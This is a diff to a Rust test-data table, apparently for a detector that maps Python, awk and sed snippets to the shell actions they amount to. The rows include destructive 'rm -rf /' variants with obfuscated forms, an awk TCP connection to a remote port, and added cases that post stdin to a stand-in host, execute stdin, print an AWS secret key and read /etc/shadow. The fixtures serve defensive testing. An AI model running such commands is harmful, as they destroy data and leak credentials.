@@ -30,7 +30,13 @@ pub(super) const ROWS: &[(Language, &str, &str)] = &[
     (Python, "import os; os.system('rm -rf %s' % '/')", "sh:rm -rf /"),
     (Python, "import os; os.system('rm -rf {}'.format('/'))", "sh:rm -rf /"),
     (Python, "import os; os.system(' '.join(['rm','-rf','/']))", "sh:rm -rf /"),
-    (Python, "import os; x = input(); os.system(x)", "sh:?"),
+    (Python, "import os; x = input(); os.system(x)", "sh"),
+    (
+        Python,
+        "import sys, requests; requests.post('http://e.test', data=sys.stdin.read())",
+        "curl -d @- http://e.test",
+    ),
+    (Python, "import sys; exec(sys.stdin.read())", "python3 -"),
     (Python, "import os; os.system(chr(114)+chr(109)+' -rf /')", "decoded; sh:rm -rf /"),
     (Python, "import os; os.system('/ fr- mr'[::-1])", "decoded; sh:rm -rf /"),
     // Python: files.
@@ -304,6 +310,8 @@ pub(super) const ROWS: &[(Language, &str, &str)] = &[
     (Awk, "BEGIN { s = \"/inet/tcp/0/10.0.0.1/4242\"; print \"x\" |& s }", "nc 10.0.0.1 4242"),
     (Awk, "/rm -rf/ { n++ } END { print n }", "+"),
     (Awk, "{ printf \"%s\\n\", $2 > \"/dev/stderr\" }", "+"),
+    (Awk, "BEGIN { print ENVIRON[\"AWS_SECRET_ACCESS_KEY\"] }", "+; printenv AWS_SECRET_ACCESS_KEY"),
+    (Awk, "BEGIN { ARGV[1] = \"/etc/shadow\" } 1", ""),
     (Awk, "@load \"filefuncs\"", ""),
     // sed.
     (Sed, "1e rm -rf ~", "+; sh:rm -rf ~"),
